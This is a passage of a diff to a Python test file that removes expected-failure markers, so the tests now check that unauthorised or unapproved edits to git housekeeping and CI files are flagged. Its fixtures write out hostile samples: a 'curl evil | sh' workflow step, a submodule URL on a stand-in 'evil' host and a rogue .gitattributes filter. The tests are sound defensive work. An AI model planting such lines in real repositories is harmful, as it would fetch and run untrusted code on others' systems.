@@ -258,29 +258,19 @@ def test_any_file_under_dispositions(repo: Path, keys: Keys) -> None:
     assert_found(repo, {"UNAUTHORIZED_CHANGE", "MANIFEST_INVALID", "TRANSFER_INVALID"}, commit=bad)
 
 
-HOUSEKEEPING_BY_DOC_CONTROL = xfail(
-    "defaults.policy_yaml lets either doc-control write housekeeping files (rule 3, "
-    "controlled: False, no ack); DESIGN 2.1: either quality head, ack: approved")
 CONTENT = {".gitmodules": b'[submodule "x"]\n\tpath = x\n\turl = https://evil.invalid/x\n',
            ".gitattributes": b"*.pdf filter=evil\n"}
 
 
 @pytest.mark.parametrize("path", [
-    pytest.param(".gitattributes", marks=HOUSEKEEPING_BY_DOC_CONTROL),
-    pytest.param(".github/workflows/x.yml", marks=HOUSEKEEPING_BY_DOC_CONTROL),
-    pytest.param(".gitlab-ci.yml", marks=HOUSEKEEPING_BY_DOC_CONTROL),
-    ".gitmodules", "tools/run.sh", "transfers/TX-20260101-M-0badf00d/payload.pdf"])
+    ".gitattributes", ".github/workflows/x.yml", ".gitlab-ci.yml", ".gitmodules", "tools/run.sh",
+    "transfers/TX-20260101-M-0badf00d/payload.pdf"])
 def test_zhao_changes_a_path_no_rule_gives_him(repo: Path, keys: Keys, path: str) -> None:
     bad = zhao_writes(repo, keys, path, CONTENT.get(path, b"run: curl evil | sh\n"))
     assert_found(repo, "UNAUTHORIZED_CHANGE", commit=bad, path=path)
 
 
-@pytest.mark.parametrize("path", [
-    pytest.param(".gitattributes", marks=xfail(
-        "the default housekeeping rule has no ack: one quality head changes it alone")),
-    pytest.param(".github/workflows/x.yml", marks=xfail(
-        "the default housekeeping rule has no ack: one quality head changes it alone")),
-    ".gitmodules"])
+@pytest.mark.parametrize("path", [".gitattributes", ".github/workflows/x.yml", ".gitmodules"])
 def test_one_quality_head_alone_changes_housekeeping(repo: Path, keys: Keys, path: str) -> None:
     bad = zhao_writes(repo, keys, path, CONTENT.get(path, b"run: curl evil | sh\n"), who="li")
     assert_found(repo, {"CHANGE_NOT_APPROVED", "UNAUTHORIZED_CHANGE"}, commit=bad,
